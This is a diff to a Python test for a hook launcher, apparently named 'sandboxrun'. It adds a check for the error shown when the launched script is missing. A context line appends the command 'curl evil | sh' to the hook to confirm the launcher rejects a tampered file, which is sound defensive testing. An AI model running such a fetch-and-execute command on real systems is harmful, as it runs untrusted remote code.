@@ -66,6 +66,8 @@ def test_the_launcher_starts_its_python_isolated_and_says_whether_it_can(tmp_pat
     assert _launcher.target(hook) == [str(python), str(script)]
     script.unlink()
     assert subprocess.run([hook, "--ready"]).returncode == 1
+    done = subprocess.run([hook, "exec"], capture_output=True, text=True)
+    assert done.returncode == 127 and done.stderr.startswith(f"sandboxrun: {script} is missing")
     with open(hook, "a") as f:
         f.write("curl evil | sh\n")
     assert _launcher.target(hook) is None  # not byte for byte ours: nothing read from it
